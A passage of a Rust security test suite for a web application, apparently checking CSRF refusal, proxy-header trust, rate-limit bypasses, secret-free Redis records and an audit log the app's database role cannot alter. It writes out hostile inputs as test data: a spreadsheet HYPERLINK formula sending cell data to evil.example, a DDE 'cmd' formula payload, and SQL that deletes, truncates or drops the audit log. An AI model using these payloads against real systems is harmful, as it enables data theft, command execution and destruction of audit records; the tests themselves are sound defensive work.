//! Where a request comes from and what it may carry: cross-site request forgery (issue item 2),
//! client addresses behind a proxy (4), rate-limit bypass and idempotency storage (5),
//! malformed server-function bodies (12), formula injection in the audit CSV (12), what an
//! officer learns in an emergency (8) and the database role the app runs as (11).

use reqwest::StatusCode;
use reqwest::header::{ACCEPT, CONTENT_TYPE, ORIGIN};
use sea_orm::{ColumnTrait, ConnectionTrait, Database, EntityTrait, QueryFilter, QueryOrder};
use serde_json::{Value, json};

use gad_core::entities::{audit_log, users};

use crate::common::{ADMIN_PASSWORD, Backend, DEMO_PASSWORD, Rest, TestApp};

const EVIL: &str = "https://evil.example";

async fn role_of(app: &TestApp, email: &str) -> String {
    let user = users::Entity::find().filter(users::Column::Email.eq(email)).one(&app.state.db).await.unwrap().unwrap();
    user.role.as_str().to_owned()
}

async fn user_id(app: &TestApp, email: &str) -> i64 {
    users::Entity::find().filter(users::Column::Email.eq(email)).one(&app.state.db).await.unwrap().unwrap().id
}

/// A page on another site (or a sibling origin) posts to GAD with the admin's cookies:
/// nothing changes, whatever the encoding; the same post from our own page works.
async fn cross_site_posts_change_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.login("admin@gad.local", ADMIN_PASSWORD).await;
    let supervisor = user_id(&app, "supervisor@gad.local").await.to_string();
    let promote = [("id", supervisor.as_str()), ("role", "admin")];
    let url = app.url("/api/fn/set_user_role");

    // A form auto-submitted by another site (no JavaScript: the browser sends Origin and
    // Sec-Fetch-Site).
    let res = admin
        .post(&url)
        .header(ORIGIN, EVIL)
        .header("sec-fetch-site", "cross-site")
        .header(ACCEPT, "text/html")
        .form(&promote)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(res.headers().get("set-cookie").is_none(), "a refused post writes no session (no flash)");
    // A sibling origin is "same-site" for SameSite=Lax cookies, but not us.
    let res = admin
        .post(&url)
        .header(ORIGIN, "https://other.gad.example")
        .header("sec-fetch-site", "same-site")
        .form(&promote)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    // An old browser without Fetch Metadata still sends Origin.
    let res = admin.post(&url).header(ORIGIN, EVIL).form(&promote).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    // `text/plain` is a "simple request" a page may send anywhere without a preflight.
    let res = admin
        .post(&url)
        .header(CONTENT_TYPE, "text/plain")
        .body(format!("id={supervisor}&role=admin"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(role_of(&app, "supervisor@gad.local").await, "supervisor", "no forged post changed the role");

    // The REST API with the session cookie is held to the same rule.
    let res = admin
        .put(app.url(&format!("/api/v1/users/{supervisor}/active")))
        .header(ORIGIN, EVIL)
        .header("sec-fetch-site", "cross-site")
        .json(&json!({ "active": false }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(res.headers()[CONTENT_TYPE], "application/problem+json");

    // Our own page's post goes through.
    let res = admin
        .post(&url)
        .header(ORIGIN, format!("http://{}", app.addr))
        .header("sec-fetch-site", "same-origin")
        .header(ACCEPT, "application/json")
        .form(&promote)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap());
    assert_eq!(role_of(&app, "supervisor@gad.local").await, "admin");
}
on_both_backends!(cross_site_posts_change_nothing);

/// Login CSRF: another site cannot sign the victim's browser into the attacker's account.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_from_another_site_is_refused() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let client = TestApp::client();
    let res = client
        .post(app.url("/api/fn/login"))
        .header(ORIGIN, EVIL)
        .header("sec-fetch-site", "cross-site")
        .header(ACCEPT, "text/html")
        .form(&[("email", "supervisor@gad.local"), ("password", DEMO_PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(res.headers().get("set-cookie").is_none());
    let me = client.get(app.url("/api/v1/me")).send().await.unwrap();
    assert_eq!(me.status(), StatusCode::UNAUTHORIZED, "no session was opened");
}

/// A token integration (no browser, no Origin) keeps working; a browser request from another
/// site with a token it stole is still refused (it would be a cross-site write).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn token_clients_without_a_browser_pass() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    let (status, body) = sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

/// Malformed server-function bodies are the caller's error (400/413), never a 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_server_function_bodies_are_client_errors() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let admin = app.login("admin@gad.local", ADMIN_PASSWORD).await;
    let post = |name: &str, content_type: &'static str, body: Vec<u8>| {
        admin
            .post(app.url(&format!("/api/fn/{name}")))
            .header(CONTENT_TYPE, content_type)
            .header(ACCEPT, "application/json")
            .body(body)
    };
    let form = "application/x-www-form-urlencoded";
    let cases: Vec<(&str, reqwest::RequestBuilder)> = vec![
        ("missing field", post("set_user_role", form, b"id=1".to_vec())),
        ("wrong type", post("set_user_role", form, b"id=uno&role=admin".to_vec())),
        ("invalid utf-8", post("set_user_role", form, b"id=1&role=\xff\xfe".to_vec())),
        ("bad json", post("create_user", "application/json", b"{\"new\": ".to_vec())),
        ("json missing field", post("create_user", "application/json", b"{}".to_vec())),
    ];
    for (what, request) in cases {
        let res = request.send().await.unwrap();
        let status = res.status();
        let body: Value = res.json().await.unwrap_or(Value::Null);
        assert_eq!(status, StatusCode::BAD_REQUEST, "{what}: {body}");
        assert!(body["message"].as_str().is_some_and(|m| m.contains("no es válida")), "{what}: {body}");
    }
    // An oversized body is refused with 413. The server may answer before it has read the
    // whole body and close the connection, so the client can see its write fail (broken
    // pipe) instead of the answer: such a try proves nothing either way and is repeated.
    let huge = vec![b'a'; 3 * 1024 * 1024];
    let mut answered = None;
    for _ in 0..10 {
        match post("login", form, [b"email=".as_slice(), &huge, b"&password=x"].concat()).send().await {
            Ok(res) => {
                answered = Some(res.status());
                break;
            }
            Err(e) => assert!(e.is_request(), "not a refused write: {e}"),
        }
    }
    assert_eq!(answered, Some(StatusCode::PAYLOAD_TOO_LARGE));
}

/// Behind a proxy: without configuration `X-Forwarded-For` is ignored (a client cannot pick
/// the address it is limited and audited under); from a configured proxy it names the client,
/// so one client's failed logins do not lock everyone out.
async fn forwarded_for_only_from_trusted_proxies(backend: Backend) {
    let direct = TestApp::spawn_with(backend, &[("GAD_LOGIN_RATE_LIMIT_PER_MINUTE", "3")]).await;
    let client = TestApp::client();
    let login = |ip: String, email: &'static str, password: &'static str| {
        client
            .post(direct.url("/api/fn/login"))
            .header("x-forwarded-for", ip)
            .header(ACCEPT, "application/json")
            .form(&[("email", email), ("password", password)])
            .send()
    };
    crate::common::away_from_minute_edge().await;
    for n in 0..2 {
        let res = login(format!("198.51.100.{n}"), "nadie@gad.local", "x").await.unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }
    let res = login("198.51.100.9".into(), "admin@gad.local", ADMIN_PASSWORD).await.unwrap();
    assert!(res.status().is_success(), "{}", res.status());
    let last = audit_log::Entity::find().order_by_desc(audit_log::Column::Id).one(&direct.state.db).await.unwrap();
    let last = last.unwrap();
    assert_eq!(
        (last.action.as_str(), last.ip.as_deref()),
        ("auth.login", Some("127.0.0.1")),
        "the header was believed"
    );
    let res = login("198.51.100.10".into(), "nadie@gad.local", "x").await.unwrap();
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS, "a made-up header does not buy a fresh budget");

    let proxied = TestApp::spawn_with(
        backend,
        &[("GAD_LOGIN_RATE_LIMIT_PER_MINUTE", "3"), ("GAD_TRUSTED_PROXIES", "127.0.0.0/8")],
    )
    .await;
    let attempt = |ip: &'static str| {
        client
            .post(proxied.url("/api/fn/login"))
            .header("x-forwarded-for", ip)
            .header(ACCEPT, "application/json")
            .form(&[("email", "nadie@gad.local"), ("password", "x")])
            .send()
    };
    crate::common::away_from_minute_edge().await;
    for _ in 0..3 {
        assert_eq!(attempt("203.0.113.66").await.unwrap().status(), StatusCode::UNAUTHORIZED);
    }
    assert_eq!(attempt("203.0.113.66").await.unwrap().status(), StatusCode::TOO_MANY_REQUESTS);
    // Another client behind the same proxy still signs in.
    let res = client
        .post(proxied.url("/api/fn/login"))
        .header("x-forwarded-for", "203.0.113.7")
        .header(ACCEPT, "application/json")
        .form(&[("email", "admin@gad.local"), ("password", ADMIN_PASSWORD)])
        .send()
        .await
        .unwrap();
    assert!(res.status().is_success(), "{}", res.status());
    let last = audit_log::Entity::find().order_by_desc(audit_log::Column::Id).one(&proxied.state.db).await.unwrap();
    let last = last.unwrap();
    assert_eq!((last.action.as_str(), last.ip.as_deref()), ("auth.login", Some("203.0.113.7")));
}
on_both_backends!(forwarded_for_only_from_trusted_proxies);

/// A random `Authorization` header per request does not escape the limit: only a valid token
/// has a budget of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn made_up_tokens_share_the_address_budget() {
    let app = TestApp::spawn_with(Backend::Sqlite, &[("GAD_RATE_LIMIT_PER_MINUTE", "5")]).await;
    let http = reqwest::Client::new();
    let mut statuses = Vec::new();
    for n in 0..8 {
        let res = http.get(app.url("/api/v1/tasks")).bearer_auth(format!("gad_inventado{n}")).send().await.unwrap();
        statuses.push(res.status().as_u16());
    }
    assert_eq!(statuses, [401, 401, 401, 401, 401, 429, 429, 429]);
    // A real token has its own budget, however its header is spelled: one more space after
    // `Bearer` is the same token, not a fresh budget.
    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, true).await;
    let mut statuses = Vec::new();
    for n in 0..7 {
        let header = format!("{}{}{}", if n % 2 == 0 { "Bearer " } else { "bearer " }, " ".repeat(n), sup.token);
        let res = http.get(app.url("/api/v1/tasks")).header("authorization", header).send().await.unwrap();
        statuses.push(res.status().as_u16());
    }
    assert_eq!(statuses, [200, 200, 200, 200, 200, 429, 429]);
}

/// Anonymous POSTs with fresh `Idempotency-Key`s store nothing (they could fill Redis); an
/// authenticated one is kept and replayed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idempotency_keys_are_kept_for_authenticated_callers_only() {
    // A Redis database of its own, so its keys can be counted.
    let redis_url = format!("{}/9", crate::common::redis_url().trim_end_matches('/'));
    let redis = redis::Client::open(redis_url.as_str()).unwrap();
    let mut conn = redis.get_multiplexed_async_connection().await.unwrap();
    let count = |mut conn: redis::aio::MultiplexedConnection| async move {
        let keys: Vec<String> = redis::cmd("KEYS").arg("gad:idem:*").query_async(&mut conn).await.unwrap();
        keys.len()
    };
    let _: () = redis::cmd("FLUSHDB").query_async(&mut conn).await.unwrap();
    let app = TestApp::spawn_with(Backend::Postgres, &[("REDIS_URL", &redis_url)]).await;
    let http = reqwest::Client::new();
    for n in 0..20 {
        let res = http
            .post(app.url("/api/v1/tasks"))
            .header("idempotency-key", format!("k-{n}-{}", uuid::Uuid::new_v4()))
            .json(&json!({ "title": "x", "task_type": "patrol" }))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }
    assert_eq!(count(conn.clone()).await, 0, "anonymous requests left idempotency records");

    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    let create = || {
        sup.request(reqwest::Method::POST, "/tasks")
            .header("idempotency-key", "una-sola-vez")
            .json(&json!({ "title": "Ronda única", "task_type": "patrol" }))
    };
    let (first, body) = Rest::send(create()).await;
    let (second, again) = Rest::send(create()).await;
    assert_eq!((first, second), (StatusCode::CREATED, StatusCode::CREATED));
    assert_eq!(body["id"], again["id"], "replayed, not created twice");
    assert_eq!(count(conn).await, 1);
}

/// Nothing an idempotency record keeps can be turned into a credential: answers that carry an
/// API token, a generated password or a Telegram link code are remembered without their body
/// (a retry is told so, and nothing runs twice), and a request's password is not kept as its
/// plain SHA-256.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idempotency_records_keep_no_secret() {
    use sha2::Digest;
    let redis_url = format!("{}/10", crate::common::redis_url().trim_end_matches('/'));
    let redis = redis::Client::open(redis_url.as_str()).unwrap();
    let mut conn = redis.get_multiplexed_async_connection().await.unwrap();
    let _: () = redis::cmd("FLUSHDB").query_async(&mut conn).await.unwrap();
    let app = TestApp::spawn_with(Backend::Postgres, &[("REDIS_URL", &redis_url)]).await;
    let session = app.login("admin@gad.local", ADMIN_PASSWORD).await;
    let admin_id = user_id(&app, "admin@gad.local").await;
    let officer_id = user_id(&app, "efectivo2@gad.local").await;
    let post = |path: String, key: &'static str, body: Vec<u8>| {
        session
            .post(app.url(&format!("/api/v1{path}")))
            .header("idempotency-key", key)
            .header(CONTENT_TYPE, "application/json")
            .body(body)
            .send()
    };
    let json_bytes = |v: Value| serde_json::to_vec(&v).unwrap();
    let cases = [
        (
            format!("/users/{admin_id}/tokens"),
            "token-1",
            json_bytes(json!({ "name": "idem", "read_only": false })),
            "token",
        ),
        (
            "/users".to_owned(),
            "alta-1",
            json_bytes(json!({ "dni": "40999111", "first_name": "Ema", "last_name": "Sosa", "email": "ema@gad.local",
                "role": "officer" })),
            "generated_password",
        ),
        (format!("/users/{officer_id}/password"), "reset-1", b"{}".to_vec(), "generated_password"),
        (format!("/users/{officer_id}/telegram-link"), "link-1", Vec::new(), "code"),
    ];
    let mut secrets = Vec::new();
    for (path, key, body, field) in cases {
        let first = post(path.clone(), key, body.clone()).await.unwrap();
        assert!(first.status().is_success(), "{path}: {}", first.status());
        let answer: Value = first.json().await.unwrap();
        let secret = answer[field].as_str().unwrap_or_else(|| panic!("{path}: {answer}")).to_owned();
        secrets.push(secret);
        let again = post(path.clone(), key, body).await.unwrap();
        assert_eq!(again.status(), StatusCode::CONFLICT, "{path}: a retry neither replays the secret nor runs again");
        let problem: Value = again.json().await.unwrap();
        assert!(problem["detail"].as_str().unwrap().contains("no se guarda"), "{problem}");
    }
    let (_, tokens) = Rest::send(session.get(app.url(&format!("/api/v1/users/{admin_id}/tokens")))).await;
    let named = tokens.as_array().unwrap().iter().filter(|t| t["name"] == "idem").count();
    assert_eq!(named, 1, "the retried token request did not create a second token: {tokens}");

    // A request with a password of its own is replayed (its answer holds no secret)...
    let password = "una-clave-muy-larga-7";
    let body =
        json_bytes(json!({ "dni": "40999222", "first_name": "Ian", "last_name": "Paz", "email": "ian@gad.local",
        "role": "officer", "password": password }));
    for _ in 0..2 {
        assert_eq!(post("/users".to_owned(), "alta-2", body.clone()).await.unwrap().status(), StatusCode::CREATED);
    }
    // ...and no record holds a secret, or the plain digest of the body that carried one.
    let plain_digest = hex::encode(sha2::Sha256::digest(&body));
    let keys: Vec<String> = redis::cmd("KEYS").arg("gad:idem:*").query_async(&mut conn).await.unwrap();
    assert_eq!(keys.len(), 5, "{keys:?}");
    for key in keys {
        let record: String = redis::cmd("GET").arg(&key).query_async(&mut conn).await.unwrap();
        for secret in secrets.iter().map(String::as_str).chain([password, plain_digest.as_str()]) {
            assert!(!record.contains(secret), "{key} keeps {secret:?}: {record}");
        }
    }
}

/// Whoever reads Redis (or a copy of it) finds no session cookie to replay: sessions are kept
/// under a digest of their id, and the record does not hold the id. The session still works.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_keeps_no_session_cookie() {
    let redis_url = format!("{}/11", crate::common::redis_url().trim_end_matches('/'));
    let redis = redis::Client::open(redis_url.as_str()).unwrap();
    let mut conn = redis.get_multiplexed_async_connection().await.unwrap();
    let _: () = redis::cmd("FLUSHDB").query_async(&mut conn).await.unwrap();
    let app = TestApp::spawn_with(Backend::Sqlite, &[("REDIS_URL", &redis_url)]).await;
    let client = TestApp::client();
    let res = app.call(&client, "login", &[("email", "admin@gad.local"), ("password", ADMIN_PASSWORD)]).await;
    assert!(res.status().is_success());
    let cookie = res
        .headers()
        .get_all(reqwest::header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap())
        .find_map(|c| c.strip_prefix(&format!("{}=", gad_server::router::SESSION_COOKIE)))
        .map(|c| c.split(';').next().unwrap().to_owned())
        .expect("a session cookie");
    let keys: Vec<String> = redis::cmd("KEYS").arg("gad:session:*").query_async(&mut conn).await.unwrap();
    assert_eq!(keys.len(), 1, "{keys:?}");
    let record: String = redis::cmd("GET").arg(&keys[0]).query_async(&mut conn).await.unwrap();
    for (what, text) in [("key", &keys[0]), ("record", &record)] {
        assert!(!text.contains(&cookie), "the {what} holds the cookie {cookie}: {text}");
    }
    let me = client.get(app.url("/api/v1/me")).send().await.unwrap();
    assert_eq!(me.status(), StatusCode::OK, "the session is found by its digest");

    // A secret a plain form post leaves for its page waits in the session sealed: the record
    // never holds it readable, and the page still shows it (once).
    let id = me.json::<Value>().await.unwrap()["id"].as_i64().unwrap().to_string();
    let res = client
        .post(app.url("/api/fn/create_api_token_form"))
        .header(ACCEPT, "text/html,application/xhtml+xml")
        .form(&[("user_id", id.as_str()), ("name", "sin js"), ("read_only", "true")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FOUND);
    let waiting: String = redis::cmd("GET").arg(&keys[0]).query_async(&mut conn).await.unwrap();
    assert!(waiting.contains("sealed"), "{waiting}");
    let html = client
        .get(app.url(&format!("/usuarios?id={id}")))
        .header(ACCEPT, "text/html")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let marker = "<code class=\"secret\">";
    let at =
        html.find("Token de API").and_then(|f| html[f..].find(marker).map(|m| f + m + marker.len())).expect("shown");
    let token: String = html[at..].chars().take_while(|c| *c != '<').collect();
    assert!(token.starts_with("gad_"), "{token}");
    assert!(!waiting.contains(&token), "the session record held the token readable: {waiting}");
}

/// A visitor's plain form post opens no session: each one would otherwise be a new record in
/// the store holding whatever it sent (a few hundred posts filled Redis). A signed-in user's
/// refused form is kept for its page, its typed values bounded. A task number that is not a
/// number is a 404, not a panic on the redirect it would have become.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_visitor_s_form_post_keeps_nothing() {
    let redis_url = format!("{}/12", crate::common::redis_url().trim_end_matches('/'));
    let redis = redis::Client::open(redis_url.as_str()).unwrap();
    let mut conn = redis.get_multiplexed_async_connection().await.unwrap();
    let _: () = redis::cmd("FLUSHDB").query_async(&mut conn).await.unwrap();
    let app = TestApp::spawn_with(Backend::Sqlite, &[("REDIS_URL", &redis_url)]).await;
    let long = "x".repeat(200_000);
    let post = |client: reqwest::Client, form: Vec<(&'static str, String)>| {
        let url = app.url("/api/fn/save_task_form");
        async move { client.post(url).header(ACCEPT, "text/html").form(&form).send().await.unwrap() }
    };
    for _ in 0..5 {
        let res = post(TestApp::client(), vec![("title", "t".into()), ("description", long.clone())]).await;
        assert!(res.status().is_redirection(), "{}", res.status());
        assert!(res.headers().get(reqwest::header::SET_COOKIE).is_none(), "a session was opened: {:?}", res.headers());
    }
    // Nor does a made-up session cookie (an id the store never held).
    let made_up = format!("{}=AAAAAAAAAAAAAAAAAAAAAA", gad_server::router::SESSION_COOKIE);
    let res = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(app.url("/api/fn/save_task_form"))
        .header(ACCEPT, "text/html")
        .header(reqwest::header::COOKIE, made_up)
        .form(&[("title", "t"), ("description", long.as_str())])
        .send()
        .await
        .unwrap();
    assert!(res.status().is_redirection(), "{}", res.status());
    let cleared =
        res.headers().get(reqwest::header::SET_COOKIE).is_none_or(|c| c.to_str().unwrap().contains("Max-Age=0"));
    assert!(cleared, "a session was opened: {:?}", res.headers());
    for id in ["é", "1\n2", "99999999999999999999"] {
        let res = post(TestApp::client(), vec![("id", id.into()), ("title", "t".into())]).await;
        assert!(!res.status().is_server_error(), "{id:?}: {}", res.status());
    }
    let panics = TestApp::client().get(app.url("/metrics")).send().await.unwrap().text().await.unwrap();
    assert!(!panics.lines().any(|l| l.starts_with("gad_http_panics_total") && !l.ends_with(" 0")), "{panics}");
    let keys: Vec<String> = redis::cmd("KEYS").arg("gad:session:*").query_async(&mut conn).await.unwrap();
    assert!(keys.is_empty(), "visitors' posts stored sessions: {keys:?}");

    // Signed in, a refused form waits for its page with what was typed, cut to its bound.
    let client = app.login("admin@gad.local", ADMIN_PASSWORD).await;
    let res = post(client.clone(), vec![("title", String::new()), ("description", long.clone())]).await;
    assert!(res.status().is_redirection(), "{}", res.status());
    let keys: Vec<String> = redis::cmd("KEYS").arg("gad:session:*").query_async(&mut conn).await.unwrap();
    assert_eq!(keys.len(), 1, "{keys:?}");
    let record: String = redis::cmd("GET").arg(&keys[0]).query_async(&mut conn).await.unwrap();
    assert!(record.contains(&"x".repeat(contract::flash::KEPT_VALUE_MAX_CHARS)), "the typed text is kept");
    assert!(record.len() < 3 * contract::flash::KEPT_VALUE_MAX_CHARS, "{} bytes kept", record.len());
    let html =
        client.get(app.url("/tareas/nueva")).header(ACCEPT, "text/html").send().await.unwrap().text().await.unwrap();
    assert!(html.contains(&"x".repeat(contract::flash::KEPT_VALUE_MAX_CHARS)), "the form shows what was typed");
}

/// A signed-in user's writes through the dashboard have a budget a minute (REST has its own):
/// a loop of notes stops at it with a 429 in Spanish and writes nothing past it; reads go on,
/// and another user's budget is their own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dashboard_writes_have_a_budget() {
    crate::common::away_from_minute_edge().await;
    let app = TestApp::spawn_with(Backend::Sqlite, &[("GAD_WRITE_RATE_LIMIT_PER_MINUTE", "5")]).await;
    let officer = app.login("efectivo1@gad.local", DEMO_PASSWORD).await;
    for i in 0..5 {
        let res = app.call(&officer, "create_note", &[("body", &format!("nota {i}"))]).await;
        assert!(res.status().is_success(), "{}", res.status());
    }
    let res = app.call(&officer, "create_note", &[("body", "una de más")]).await;
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
    let retry: u64 = res.headers()[reqwest::header::RETRY_AFTER].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry), "{retry}");
    let body = res.text().await.unwrap();
    assert!(body.contains("Demasiadas acciones seguidas"), "{body}");
    // Every write door of the dashboard spends it, those that find their user themselves too…
    let res = app.call(&officer, "begin_two_factor", &[]).await;
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
    // …but a wrong password is still a counted failure, never a free guess.
    let res = app.call(&officer, "confirm_two_factor", &[("code", "123456"), ("password", "no-es-esta")]).await;
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let failures = gad_core::entities::users::Entity::find()
        .filter(gad_core::entities::users::Column::Email.eq("efectivo1@gad.local"))
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap()
        .failed_login_count;
    assert_eq!(failures, 1);
    let list = app.call(&officer, "list_notes", &[]).await;
    assert!(list.status().is_success(), "{}", list.status());
    let notes: Value = list.json().await.unwrap();
    assert_eq!(notes["items"].as_array().unwrap().len(), 5, "{notes}");
    let supervisor = app.login("supervisor@gad.local", DEMO_PASSWORD).await;
    let res = app.call(&supervisor, "create_note", &[("body", "otra persona")]).await;
    assert!(res.status().is_success(), "{}", res.status());
}

/// Names that a spreadsheet would run (`=HYPERLINK(…)`) reach the audit CSV as text.
async fn audit_csv_cells_are_not_formulas(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = Rest::sign_in(&app, "admin@gad.local", ADMIN_PASSWORD, false).await;
    let id = user_id(&app, "supervisor@gad.local").await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")";
    let (status, body) = admin.patch(&format!("/users/{id}"), &json!({ "first_name": evil })).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // Excel in Spanish splits rows on `;`, past our quotes: a formula after one is text too.
    let (status, body) =
        admin.patch(&format!("/users/{id}"), &json!({ "last_name": "Ríos;=1+cmd|' /C calc'!A0;" })).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // The supervisor acts, so their name lands in the log's "usuario" column.
    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    assert_eq!(sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await.0, StatusCode::CREATED);
    let csv = admin.request(reqwest::Method::GET, "/audit.csv").send().await.unwrap().text().await.unwrap();
    let cells: Vec<&str> = csv.lines().flat_map(|line| line.split([',', ';', '\t'])).collect();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(csv.contains("Ríos;'=1+cmd"), "{csv}");
    assert!(!cells.iter().any(|c| c.trim_start_matches('"').starts_with('=')), "a cell starts a formula:\n{csv}");
}
on_both_backends!(audit_csv_cells_are_not_formulas);

/// An officer reports an emergency and the nearest officer is sent; they do not get the
/// colleagues' names and exact positions, and cannot pick or rank whom to send.
async fn officers_report_emergencies_without_learning_positions(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let officer = Rest::sign_in(&app, "efectivo1@gad.local", DEMO_PASSWORD, false).await;
    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    let (lat, lon) = (-34.6037, -58.3816);
    // Somebody near and available, so there is someone to leak.
    let (status, o) = sup
        .post(
            "/officers",
            &json!({ "code": "SEC-1", "first_name": "Ana", "last_name": "Cerca", "rank": "Agente", "unit": "Centro" }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{o}");
    let near = o["id"].as_i64().unwrap();
    let (status, body) =
        sup.post(&format!("/officers/{near}/positions"), &json!({ "lat": lat + 0.001, "lon": lon })).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");

    for assign in [json!("none"), json!({ "nearest": 5 }), json!({ "officers": [near] })] {
        let (status, body) = officer.post("/emergencies", &json!({ "lat": lat, "lon": lon, "assign": assign })).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{assign}: {body}");
    }
    let (status, outcome) = officer.post("/emergencies", &json!({ "lat": lat, "lon": lon })).await;
    assert_eq!(status, StatusCode::CREATED, "{outcome}");
    assert_eq!(outcome["candidates"], json!([]));
    assert_eq!(outcome["assigned_officer_ids"].as_array().map(Vec::len), Some(1), "the nearest was sent");
    assert!(!outcome.to_string().contains(&format!("{:.4}", lat + 0.001)), "a colleague's position leaked: {outcome}");
    // A supervisor sees the ranking.
    let (status, ranked) = sup.post("/emergencies", &json!({ "lat": lat, "lon": lon, "assign": "none" })).await;
    assert_eq!(status, StatusCode::CREATED);
    assert!(ranked["candidates"].as_array().is_some_and(|c| !c.is_empty()), "{ranked}");
}
on_both_backends!(officers_report_emergencies_without_learning_positions);

/// The app runs as a PostgreSQL role that owns nothing: it works, and it cannot rewrite,
/// delete, truncate or unprotect the audit log.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_app_role_cannot_alter_the_audit_log() {
    let owner_url = crate::common::fresh_database(Backend::Postgres).await;
    let owner = Database::connect(&owner_url).await.unwrap();
    let role = format!("gad_app_{}", uuid::Uuid::new_v4().simple());
    owner.execute_unprepared(&format!("CREATE ROLE {role} LOGIN")).await.unwrap();
    gad_core::db::grant_app_role(&owner, &role).await.unwrap();
    // The owner itself is refused as an app role (it could disable the triggers).
    assert!(gad_core::db::grant_app_role(&owner, "postgres").await.is_err());

    let (base, db_name) = owner_url.rsplit_once('/').unwrap();
    let app_url = format!("{}/{db_name}", base.replacen("postgres@", &format!("{role}@"), 1));
    assert_ne!(app_url, owner_url);
    let app = TestApp::spawn_on(&app_url, &[]).await;
    // Business as usual: sign in, create, audit appends.
    let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
    let (status, body) = sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");

    let db = Database::connect(&app_url).await.unwrap();
    // The role seals (the one UPDATE the log allows), and the chain it makes is intact.
    gad_core::sealer::seal_now(&db).await.unwrap();
    let report = gad_core::services::audit::verify(&db).await.unwrap();
    assert_eq!((report.first_broken, report.unsealed), (None, 0), "{report:?}");
    assert!(report.rows > 0);
    for sql in [
        "UPDATE audit_log SET action = 'nada' WHERE id = (SELECT MIN(id) FROM audit_log)",
        "UPDATE audit_log SET hash = 'forged' WHERE id = (SELECT MIN(id) FROM audit_log)",
        "UPDATE audit_log SET seq = NULL, hash = NULL WHERE id = (SELECT MIN(id) FROM audit_log)",
        "DELETE FROM audit_log",
        "TRUNCATE audit_log",
        "ALTER TABLE audit_log DISABLE TRIGGER ALL",
        "DROP TABLE audit_log",
        "SET session_replication_role = replica",
    ] {
        let result = db.execute_unprepared(sql).await;
        assert!(result.is_err(), "the app role could run: {sql}");
    }
    let rows: i64 = db
        .query_one_raw(sea_orm::Statement::from_string(
            sea_orm::DatabaseBackend::Postgres,
            "SELECT COUNT(*) AS n FROM audit_log",
        ))
        .await
        .unwrap()
        .unwrap()
        .try_get("", "n")
        .unwrap();
    assert!(rows > 0);
    db.close().await.unwrap();
    owner.close().await.unwrap();
}

/// Every field has a maximum length before it reaches a store: a phone number was unbounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unbounded_fields_are_refused() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let admin = Rest::sign_in(&app, "admin@gad.local", ADMIN_PASSWORD, false).await;
    let id = user_id(&app, "supervisor@gad.local").await;
    let (status, body) = admin.patch(&format!("/users/{id}"), &json!({ "phone": "1".repeat(5000) })).await;
    assert_eq!((status, crate::common::problem_fields(&body)), (StatusCode::BAD_REQUEST, vec!["phone".to_owned()]));
